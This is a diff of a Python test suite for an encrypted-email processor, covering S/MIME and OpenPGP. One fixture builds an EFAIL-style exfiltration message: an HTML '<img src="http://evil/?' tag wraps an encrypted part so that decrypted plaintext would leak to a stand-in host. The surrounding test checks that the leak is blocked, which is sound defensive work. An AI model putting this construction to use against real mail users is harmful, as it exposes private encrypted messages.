@@ -167,11 +167,12 @@ def owners(work, tap):
                  b'Content-Type: text/html\r\n\r\n<img src="http://evil/?\r\n--b\r\n' + inner +
                  b"\r\n--b--\r\n")
         attached = b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + inner
-        for entity in (mixed, attached):
+        for entity, found in ((mixed, [("smime-encrypted", "shut", "foreign-part")]),
+                              (attached, [])):
             answer, files = work.explain(entity, ALICE)
             assert answer["recipients"][0]["way"] == "unchanged"
-            assert not answer["variants"][0]["layers"] and b"Geheim" not in files[0]
-            assert entity in files[0]
+            assert layers(answer["variants"][0]) == found, answer
+            assert b"Geheim" not in files[0] and entity in files[0]
 
 
 def verdicts(work, tap):
@@ -240,8 +241,6 @@ def openpgp(work, tap):
         answer, files = work.explain(b"Content-Type: text/plain\r\n\r\n" + armour, ALICE)
         assert layers(answer["variants"][0]) == [opened("pgp-inline-encrypted")], answer
         assert b"Geheim" in files[0]
-        answer, files = work.explain(b"Content-Type: text/plain\r\n\r\nhi\r\n" + armour, ALICE)
-        assert answer["recipients"][0]["way"] == "unchanged" and not answer["variants"][0]["layers"]
     with tap.case("for somebody else; without integrity protection; damaged: shut"):
         for recipient in (BOSS, ALICE):
             answer, files = work.explain(work.pgp_encrypted(ENTITY, BOSS), recipient)
@@ -271,4 +270,5 @@ def main():
     sys.exit(tap.finish())
 
 
-main()
+if __name__ == "__main__":
+    main()
